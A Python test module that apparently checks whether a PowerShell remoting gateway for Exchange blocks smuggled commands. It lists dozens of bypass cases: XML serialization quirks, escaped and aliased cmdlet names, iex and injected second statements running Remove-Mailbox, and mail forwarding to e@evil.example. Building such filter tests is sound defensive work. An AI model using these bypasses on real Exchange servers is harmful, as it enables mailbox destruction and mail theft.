"""The shape of `CREATE_PIPELINE`, names of cmdlets and parameters, scripts and values."""

import uuid

import wsman
from wsman import argument, command, flag, items, properties, statements, text

from . import HARMLESS, MARK, MARKED, NO, REMOVE, Stage, Taught, Trick, has_arrived, pipeline, whole

OWN = command("Get-ElevatedAccessRequest")
CONFIRM = argument("Confirm", NO)


def started(body):
    """Starts a pipeline with this body, or what it makes of the stage."""

    def run(stage: Stage):
        x, at = stage.session(), uuid.uuid4()
        return x.start(body() if callable(body) else body, at)

    return run


def honest(*commands: str, **settings):
    def run(stage: Stage) -> None:
        x, at = stage.session(), uuid.uuid4()
        answer = x.start(pipeline(*commands, **settings), at)
        assert answer.status == 200, answer.text
        assert x.ended(at) == 4

    return run


def removing(name: str) -> str:
    """`Remove-Mailbox` under another name."""
    return command(name, argument("Identity", "x"), CONFIRM)


def raw_name(written: str) -> str:
    """The same, with the element of the name written out."""
    return pipeline(REMOVE).replace('<S N="Cmd">Remove-Mailbox</S>', written)


def changed(old: str, new: str, load: str = MARKED) -> str:
    body = pipeline(load)
    assert old in body, old
    return body.replace(old, new)


def second(name: str, of: str = "Cmds") -> str:
    """A second list of commands under `name`, behind the first."""
    return changed('<Nil N="History" />', items(name, REMOVE) + '<Nil N="History" />', HARMLESS)


def first(name: str) -> str:
    return changed('<Obj N="Cmds">', items(name, REMOVE) + '<Obj N="Cmds">', HARMLESS)


def by_reference() -> str:
    """The commands are elsewhere, under a name that does not matter."""
    hidden = items("History", REMOVE).replace("<Obj", '<Obj RefId="900"', 1)
    body = changed('<Nil N="History" />', "", HARMLESS)
    return body.replace(items("Cmds", HARMLESS), hidden + '<Ref RefId="900" N="Cmds" />')


def forwarding(*arguments: str, **settings):
    """`Set-Mailbox`, which may run, with a parameter that it may not have."""
    return started(pipeline(command("Set-Mailbox", argument("Identity", "x"), *arguments), **settings))


def script(text_: str, **settings):
    return started(pipeline(command(text_, script=True), **settings))


def valued(value: str):
    """A value that holds the mark."""
    return started(pipeline(command("Get-Mailbox", argument("Identity", value))))


def into(name: str, variable: str):
    """What comes out is put into a variable."""
    return started(pipeline(command("Get-Mailbox", argument("Identity", "x"), argument(name, variable))))


def wrote_elsewhere(stage: Stage) -> bool:
    return any(it["params"].get("OutVariable", "mine") != "mine" for it in stage.journal)


def spelled(value: str):
    """A value in a spelling of its own, which the server would show otherwise."""
    where = value.replace(">", ' N="V">', 1)
    name = f"a value in another spelling: {value}"
    run = started(pipeline(command("Get-Mailbox", argument("Identity", "x"), argument("Filter", where))))
    return Trick(name, run, worked=lambda stage: has_arrived(stage, where))


INTO_MINE = honest(command("Get-Mailbox", argument("Identity", "x"), argument("OutVariable", "mine")))
WITH_RULE = honest(command("Set-Mailbox", argument("Identity", "x"), argument("CustomAttribute1", "y")))
PLAIN_SCRIPT = honest(command("Get-Mailbox -Identity 'x'", script=True))
WITHOUT_OTHERS = honest(command("Set-Mailbox", argument("Identity", "x")))
FORWARD = "ForwardingSmtpAddress"
MAILBOX = "<TN RefId=\"990\"><T>Deserialized.Microsoft.Exchange.Data.Directory.Management.Mailbox</T></TN>"

SHAPES = [
    Trick("harmless Cmds, and ExtraCmds that are not", started(pipeline(extra=statements([REMOVE])))),
    Trick(
        "ExtraCmds of two statements, the second not harmless", started(pipeline(extra=statements([HARMLESS], [REMOVE]))),
        control=honest(HARMLESS, extra=statements([HARMLESS], [HARMLESS])),
    ),
    Trick("Cmds that are not the first of ExtraCmds", started(pipeline(REMOVE, extra=statements([HARMLESS]))), fools=False),
    Trick("Cmds twice, the second not harmless", started(second("Cmds"))),
    Trick("Cmds twice, the first not harmless", started(first("Cmds")), fools=False),
    Trick("a second cmds in lower case", started(second("cmds")), fools=False),
    Trick("a first cmds in lower case", started(first("cmds")), fools=False),
    Trick("a name of a property in escapes", started(second("_x0043_mds"))),
    Trick("ExtraCmds twice", started(
        changed('<Nil N="ExtraCmds" />', '<Nil N="ExtraCmds" />' + statements([REMOVE]), HARMLESS)
    )),
    Trick("Cmd twice", started(changed('<S N="Cmd">Get-Mailbox</S>', '<S N="Cmd">Get-Mailbox</S><S N="Cmd">Remove-Mailbox</S>', HARMLESS))),
    Trick("Args twice", started(changed("</LST></Obj></MS></Obj></LST></Obj>", "</LST></Obj>" + items("Args", argument("Identity", MARK)) + "</MS></Obj></LST></Obj>", HARMLESS))),
    Trick("a value twice", started(changed('<S N="V">x</S>', f'<S N="V">x</S><S N="V">{MARK}</S>', HARMLESS))),
    Trick("properties of the other kind", started(changed("<Obj><MS><S N=\"Cmd\">", "<Obj><Props><S N=\"Cmd\">").replace("</Obj></MS></Obj></LST></Obj><Nil N=\"History\"", "</Obj></Props></Obj></LST></Obj><Nil N=\"History\""))),
    Trick("properties of both kinds", started(changed('<Nil N="History" /><B N="RedirectShellErrorOutputPipe">false</B></MS>', f'<Nil N="History" /><B N="RedirectShellErrorOutputPipe">false</B></MS><Props>{items("Cmds", REMOVE)}</Props>', HARMLESS)), fools=False),
    Trick("commands by reference", started(by_reference())),
    Trick("two lists in one object", started(changed("</LST></Obj><Nil N=\"History\"", f"</LST><LST>{REMOVE}</LST></Obj><Nil N=\"History\"", HARMLESS))),
    Trick("a list that is a stack", started(changed('<Obj N="Cmds"><LST>', '<Obj N="Cmds"><STK>').replace('</LST></Obj><Nil N="History"', '</STK></Obj><Nil N="History"'))),
    Trick("a command that is nested", started(pipeline(MARKED, nested=True))),
    Trick("properties that nobody knows", started(changed('<Nil N="History" />', '<Nil N="History" />' + text("Script", MARK)))),
    Trick("commands piped, the second blocked", started(pipeline(HARMLESS, command("Remove-Mailbox", CONFIRM))), control=honest(HARMLESS, command("Measure-Object"))),
    Trick("the gateway's own cmdlet piped into another", started(pipeline(OWN, MARKED)), fools=False),
    Trick("the gateway's own cmdlet behind another", started(pipeline(MARKED, OWN))),
    Trick("the gateway's own cmdlet and another statement", started(pipeline(OWN, extra=statements([OWN], [MARKED]))), fools=False),
    Trick("another statement and the gateway's own cmdlet", started(pipeline(MARKED, extra=statements([MARKED], [OWN])))),
    Trick("a name that is an object with a text in it", started(raw_name('<Obj N="Cmd"><S>Remove-Mailbox</S></Obj>'))),
    Trick("what the client shows is another command", lambda stage: decorated(stage)),
]

NAMES = [
    Trick("upper case", started(pipeline(removing("REMOVE-MAILBOX"))), control=honest(command("GET-mailbox", argument("identity", "x")))),
    Trick("an alias", started(pipeline(removing("rmbx")))),
    Trick("qualified by a module", started(pipeline(removing("Microsoft.Exchange\\Remove-Mailbox"))), control=honest(command("Microsoft.Exchange\\Get-Mailbox", argument("Identity", "x")))),
    Trick("qualified by its whole module", started(pipeline(removing("microsoft.exchange.management.powershell.e2010\\remove-mailbox")))),
    Trick("an implied Get-", started(pipeline(command("Date")))),
    Trick("never, in another case", started(pipeline(command("get-date")))),
    Trick("an escaped hyphen", started(pipeline(removing("Remove_x002D_Mailbox")))),
    Trick("an escaped letter", started(pipeline(removing("_x0052_emove-Mailbox")))),
    Trick("a numeric entity", started(raw_name('<S N="Cmd">Remove&#45;Mailbox</S>'))),
    Trick("a comment inside", started(raw_name('<S N="Cmd">Remove-<!-- -->Mailbox</S>'))),
    Trick("a comment that hides the end", started(raw_name('<S N="Cmd">Get-Mailbox</S>').replace('<S N="Cmd">Get-Mailbox</S>', '<S N="Cmd"><!--Get-Mailbox-->Remove-Mailbox</S>'))),
    Trick("a processing instruction inside", started(raw_name('<S N="Cmd">Remove-<?x y?>Mailbox</S>'))),
    Trick("a section of characters", started(raw_name('<S N="Cmd"><![CDATA[Remove-Mailbox]]></S>'))),
    Trick("an entity of a document type", started(lambda: '<!DOCTYPE Obj [<!ENTITY r "Remove-Mailbox">]>' + raw_name('<S N="Cmd">&r;</S>'))),
    Trick("a namespace with a prefix", started(raw_name('<S N="Cmd">Get-Mailbox</S><x:S xmlns:x="urn:x" N="Cmd">Remove-Mailbox</x:S>')), fools=False),
    Trick("blanks around the name", started(pipeline(removing(" Remove-Mailbox "))), fools=False),
    Trick("a look-alike letter", started(pipeline(removing("Remove-Mаilbox"))), fools=False),
    Trick("an en dash in the name", started(pipeline(removing("Remove–Mailbox"))), fools=False),
    Trick("the call operator", script("& 'Remove-Mailbox' -Identity x -Confirm:$false")),
    Trick("a cmdlet that runs text", started(pipeline(command("Invoke-Expression", argument("Command", f"Get-Mailbox {MARK}"))))),
    Trick("an alias of a cmdlet that runs text", started(pipeline(command("iex", argument(None, f"Get-Mailbox {MARK}"))))),
    Trick("a cmdlet that sets variables", started(pipeline(command("Set-Variable", argument("Name", "PSDefaultParameterValues"), argument("Value", MARK))))),
    Trick("a cmdlet that writes files", started(pipeline(command("Export-Csv", argument("Path", MARK), argument("InputObject", "x"))))),
    Trick("what a common client does with scripts", started(pipeline(command("Invoke-Expression", argument("Command", f"Get-Mailbox {MARK}")), command("Out-String", argument("Stream", None))))),
]

PARAMETERS = [
    Trick("the plain form", forwarding(argument(FORWARD, "e@evil.example")), control=WITH_RULE),
    Trick("another case", forwarding(argument("forwardingSMTPaddress", "e@evil.example")), control=WITH_RULE),
    Trick("its beginning", forwarding(argument("Forw", "e@evil.example")), control=WITH_RULE),
    Trick("a hyphen before it", forwarding(argument("-" + FORWARD, "e@evil.example")), control=WITH_RULE),
    Trick("a hyphen, and the value behind it", forwarding(argument("-" + FORWARD, None), argument(None, "e@evil.example")), control=WITH_RULE),
    Trick("a hyphen, a beginning, and the value behind it", forwarding(argument("-Forw", None), argument(None, "e@evil.example")), control=WITH_RULE),
    Trick("a hyphen and a colon", forwarding(argument(f"-{FORWARD}:", "e@evil.example")), control=WITH_RULE),
    Trick("a hyphen, a colon and a blank", forwarding(argument(f"-{FORWARD}: ", "e@evil.example")), control=WITH_RULE),
    Trick("an en dash", forwarding(argument("–" + FORWARD, "e@evil.example")), control=WITH_RULE),
    Trick("a horizontal bar", forwarding(argument("―" + FORWARD, "e@evil.example")), control=WITH_RULE),
    Trick("an alias of it", forwarding(argument("ForwardTo", "e@evil.example")), control=WITH_RULE),
    Trick("an alias of it after a restart", forwarding(argument("ForwardTo", "e@evil.example")), control=WITHOUT_OTHERS, taught=Taught.NOTHING),
    Trick("an alias of it after a shorter list", forwarding(argument("ForwardTo", "e@evil.example")), control=WITH_RULE, taught=Taught.LESS),
    Trick("the beginning of an alias after a restart", forwarding(argument("ForwardT", "e@evil.example")), control=WITHOUT_OTHERS, taught=Taught.NOTHING),
    Trick("the beginning of an alias after a shorter list", forwarding(argument("ForwardT", "e@evil.example")), control=WITH_RULE, taught=Taught.LESS),
    Trick("an alias and the value behind it, after a restart", forwarding(argument("-ForwardTo", None), argument(None, "e@evil.example")), control=WITHOUT_OTHERS, taught=Taught.NOTHING),
    Trick("an alias in a script, after a restart", script("Set-Mailbox -Identity x -ForwardTo e@evil.example"), control=WITHOUT_OTHERS, taught=Taught.NOTHING),
    Trick("a variable of the engine", into("OutVariable", "PSDefaultParameterValues"), worked=wrote_elsewhere, control=INTO_MINE),
    Trick("a variable of the engine, added to", into("OutVariable", "+ErrorActionPreference"), worked=wrote_elsewhere, control=INTO_MINE),
    Trick("a variable of the engine by an alias", into("-ov:", "ConfirmPreference"), worked=wrote_elsewhere, control=INTO_MINE),
    Trick("a variable of the engine by the beginning of a name", into("OutV", "WhatIfPreference"), worked=wrote_elsewhere, control=INTO_MINE),
    Trick("a variable that is a function", into("OutVariable", "function:Get-Mailbox"), worked=wrote_elsewhere, control=INTO_MINE),
    Trick("two hyphens", forwarding(argument("--" + FORWARD, "e@evil.example")), fools=False, control=WITH_RULE),
    Trick("escapes in the name", forwarding(argument("_x0046_orwardingSmtpAddress", "e@evil.example")), control=WITH_RULE),
    Trick("behind a switch that takes no value", forwarding(argument("-Force", None), argument(FORWARD, "e@evil.example")), control=WITH_RULE),
    Trick("as the value of a common parameter", forwarding(argument("-ErrorAction", None), argument("-" + FORWARD, "e@evil.example")), fools=False, control=WITH_RULE),
    Trick("with a harmless name first", forwarding(properties(None, text("N", "CustomAttribute1"), text("N", FORWARD), text("V", "e@evil.example"))), control=WITH_RULE),
    Trick("in a script", script(f"Set-Mailbox x -{FORWARD} e@evil.example"), control=WITH_RULE),
    Trick("in a script, joined with a colon", script(f"Set-Mailbox -Identity x -{FORWARD}:e@evil.example"), control=WITH_RULE),
    Trick("whom it is for comes by the pipe", started(pipeline(HARMLESS, command("Set-Mailbox", argument("DisplayName", MARK)))), control=WITH_RULE),
    Trick("whom it is for has no name", started(pipeline(command("Set-Mailbox", argument(None, "x"), argument(FORWARD, "e@evil.example")))), control=WITH_RULE),
]

SCRIPTS = [
    Trick("a script", script("Remove-Mailbox x -Confirm $false"), control=PLAIN_SCRIPT),
    Trick("a second statement", script("Get-Mailbox x; Remove-Mailbox x"), control=PLAIN_SCRIPT),
    Trick("a second line", script("Get-Mailbox x\nRemove-Mailbox x"), control=PLAIN_SCRIPT),
    Trick("a pipe", script("Get-Mailbox x | Remove-Mailbox"), control=PLAIN_SCRIPT),
    Trick("a name in quotes", script("'Remove-Mailbox' x"), control=PLAIN_SCRIPT),
    Trick("a name in other quotes", script('"Remove-Mailbox" x'), control=PLAIN_SCRIPT),
    Trick("an alias in a script", script("rmbx x"), control=PLAIN_SCRIPT),
    Trick("text that runs text", script(f"iex 'Get-Mailbox {MARK}'"), control=PLAIN_SCRIPT),
    Trick("a variable", script(f'Get-Mailbox "${MARK}"'), control=PLAIN_SCRIPT),
    Trick("an expression", script(f"Get-Mailbox ('{MARK}')"), control=PLAIN_SCRIPT),
    Trick("a comment", script(f"Get-Mailbox #{MARK}"), control=PLAIN_SCRIPT),
    Trick("a backtick", script(f"Get-Mailbox `{MARK}"), control=PLAIN_SCRIPT),
    Trick("a background job", script(f"Get-Mailbox {MARK} &"), control=PLAIN_SCRIPT),
    Trick("a redirection", script(f"Get-Mailbox {MARK} > x"), control=PLAIN_SCRIPT),
    Trick("a no-break space", script(f"Get-Mailbox\u00a0{MARK}"), control=PLAIN_SCRIPT),
    Trick("curled quotes", script(f"Get-Mailbox 'x’ {MARK}'"), control=PLAIN_SCRIPT),
    Trick("a splat", script(f"Get-Mailbox @{MARK}"), control=PLAIN_SCRIPT),
    Trick("a script among commands", started(pipeline(HARMLESS, command(f"Get-Mailbox {MARK}", script=True))), control=PLAIN_SCRIPT),
    Trick("a script in a second statement", started(pipeline(extra=statements([HARMLESS], [command("Remove-Mailbox x", script=True)]))), control=PLAIN_SCRIPT),
    Trick("a script with arguments", started(pipeline(command("Get-Mailbox", argument(None, MARK), script=True))), control=PLAIN_SCRIPT),
]

VALUES = [
    Trick("program text", valued(f'<SBK N="V">{MARK}</SBK>')),
    Trick("program text in a list", valued(items("V", f"<SBK>{MARK}</SBK>"))),
    Trick("program text in a list of lists", valued(items("V", items(None, f"<SBK>{MARK}</SBK>")))),
    Trick("program text in a table", valued(f'<Obj N="V"><TN RefId="991"><T>System.Collections.Hashtable</T></TN><DCT><En><S N="Key">e</S><SBK N="Value">{MARK}</SBK></En></DCT></Obj>')),
    Trick("an object of the server's own types", valued(f'<Obj N="V"><TN RefId="991"><T>Microsoft.Exchange.Data.Directory.ADObjectId</T></TN><ToString>{MARK}</ToString><MS><BA N="SerializationData">AAAA</BA></MS></Obj>')),
    Trick("a deserialised object with data of its own", valued(f'<Obj N="V">{MAILBOX}<ToString>{MARK}</ToString><Props><S N="Alias">{MARK}</S></Props><MS><BA N="SerializationData">AAAA</BA></MS></Obj>')),
    Trick("an object whose text says one thing, its identity another", valued(f'<Obj N="V">{MAILBOX}<ToString>x</ToString><Props><S N="Identity">x</S><S N="Alias">{MARK}</S></Props></Obj>'), fools=False),
    Trick("XML", valued(f'<XD N="V">&lt;a&gt;{MARK}&lt;/a&gt;</XD>')),
    Trick("a progress record", valued(f'<Obj N="V"><PR><AV>{MARK}</AV></PR></Obj>'), fools=False),
    Trick("a reference to what comes later", valued('<Ref RefId="995" N="V" />'), fools=False),
    Trick("a text of another namespace", valued(f'<x:S xmlns:x="urn:x" N="V">{MARK}</x:S>'), fools=False),
    Trick("two values in one object", valued(f'<Obj N="V"><S>x</S><S>{MARK}</S></Obj>')),
    Trick("an object that is a text and a list", valued(f'<Obj N="V"><S>{MARK}</S><LST><S>{MARK}</S></LST></Obj>')),
    Trick("an attribute twice in other case", started(pipeline().replace('<S N="V">x</S>', f'<S n="W" N="V">{MARK}</S>'))),
    *(
        spelled(it)
        for it in (
            "<Version>010.0</Version>", "<URI>https://a.example/%40</URI>", "<Db>INF</Db>", "<Db>1E2</Db>", "<Db>007</Db>",
            "<Sg>NaN</Sg>", "<D>007.5</D>", "<DT>2026-11-21T10:00:00.5000000Z</DT>", "<TS>PT3600S</TS>",
        )
    ),
    Trick("a dot-sourced command", started(changed('<Nil N="UseLocalScope" />', flag("UseLocalScope", False), REMOVE))),
]


def decorated(stage: Stage):
    """`rsp:Command` says what is shown, not what runs."""
    x, at = stage.session(), uuid.uuid4()
    return x.ask("Command", wsman.command_line(whole(x, at, pipeline(REMOVE)), at, "Get-Mailbox"))


TRICKS = SHAPES + NAMES + PARAMETERS + SCRIPTS + VALUES
